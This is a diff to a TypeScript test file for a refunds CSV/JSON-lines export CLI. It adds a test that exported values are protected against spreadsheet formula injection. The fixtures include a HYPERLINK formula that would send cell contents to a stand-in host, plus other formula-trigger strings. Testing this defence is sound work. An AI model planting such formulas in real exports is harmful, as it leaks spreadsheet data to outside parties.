@@ -4,7 +4,6 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { createRefundCommandHandler } from '../../src/application/handleRefundCommand.js';
 import type { EventStore } from '../../src/application/ports/eventStore.js';
-import { exportCommand } from '../../src/cli/exportCommand.js';
 import { createSqliteEventStore } from '../../src/infrastructure/sqlite/sqliteEventStore.js';
 import { exportColumns } from '../../src/audit/refundExportRow.js';
 import {
@@ -82,7 +81,7 @@ describe('refunds export', () => {
     temp.remove();
   });
 
-  const exported = (args: string[]) => runCommand(exportCommand, temp.dir, args);
+  const exported = (args: string[]) => runCommand(temp.dir, ['export', ...args]);
 
   const request = (n: number, overrides: Parameters<typeof requestRefund>[0] = {}) =>
     createRefundCommandHandler({ events })(
@@ -106,6 +105,37 @@ describe('refunds export', () => {
     expect(run.stdout).toContain(',"customer said ""not as described""",');
     expect(run.stdout.startsWith('\ufeff')).toBe(false);
     expect(run.stderr).toBe('Exported 5 refunds\n');
+  });
+
+  it('given values a spreadsheet would run as formulas, when exported as CSV, then each gets a leading quote (OWASP), in every column; JSON lines keep them as they are', async () => {
+    const formulas = [
+      '=HYPERLINK("http://x.example/?"&A1,"details")',
+      '+1+2',
+      '-2+3',
+      '@SUM(1)',
+      '\tindented',
+      '\r=1+1',
+    ];
+    for (const [n, reason] of formulas.entries()) await request(n, { reason });
+    await request(6, { outRefundNo: '-R6', outTradeNo: '@T6', reason: 'a -1 inside is fine' });
+
+    const csv = await exported(['--format', 'csv']);
+    const jsonl = await exported(['--format', 'jsonl']);
+
+    const [, ...rows] = parseCsv(csv.stdout);
+    const column = (name: (typeof exportColumns)[number]) => exportColumns.indexOf(name);
+    expect(rows.map((row) => row[column('reason')])).toEqual([
+      ...formulas.map((reason) => `'${reason}`),
+      'a -1 inside is fine',
+    ]);
+    expect(rows[6]![column('outRefundNo')]).toBe("'-R6");
+    expect(rows[6]![column('outTradeNo')]).toBe("'@T6");
+    expect(rows[6]![column('refundFee')]).toBe('1990');
+    const lines = jsonLines(jsonl.stdout).map((row) =>
+      z.object({ outRefundNo: z.string(), reason: z.string() }).parse(row),
+    );
+    expect(lines.map((row) => row.reason)).toEqual([...formulas, 'a -1 inside is fine']);
+    expect(lines[6]!.outRefundNo).toBe('-R6');
   });
 
   it('given --bom, then the CSV starts with the UTF-8 byte order mark (for Excel)', async () => {
@@ -219,20 +249,20 @@ describe('refunds export', () => {
 
   it('given the CLI, then CSV on stdout alone; a bad command line is usage (64), a missing store 2', async () => {
     await request(1, { reason: 'a, b' });
-    const env = { DATA_DIR: temp.dir, LOG_LEVEL: 'silent' };
-    const cli = (args: string[], overrides = {}) =>
-      collect(spawnTs('src/cli/refunds.ts', ['export', ...args], { ...env, ...overrides }))
-        .completion;
-
-    const csv = await cli(['--format', 'csv']);
+    const csv = await collect(
+      spawnTs('src/cli/refunds.ts', ['export', '--format', 'csv'], {
+        DATA_DIR: temp.dir,
+        LOG_LEVEL: 'silent',
+      }),
+    ).completion;
     expect(csv.code, csv.stderr).toBe(0);
     expect(parseCsv(csv.stdout)[1]).toContain('a, b');
 
-    expect((await cli([])).code).toBe(64);
-    expect((await cli(['--format', 'jsonl', '--bom'])).code).toBe(64);
-    expect((await cli(['--format', 'csv', '--from', '2026-13-01'])).code).toBe(64);
-    expect((await cli(['--format', 'csv'], { DATA_DIR: path.join(temp.dir, 'none') })).code).toBe(
-      2,
-    );
+    // The same command line in-process (the process adds nothing but its streams).
+    expect((await exported([])).code).toBe(64);
+    expect((await exported(['--format', 'jsonl', '--bom'])).code).toBe(64);
+    expect((await exported(['--format', 'csv', '--from', '2026-13-01'])).code).toBe(64);
+    const missing = await runCommand(path.join(temp.dir, 'none'), ['export', '--format', 'csv']);
+    expect(missing.code).toBe(2);
   });
 });
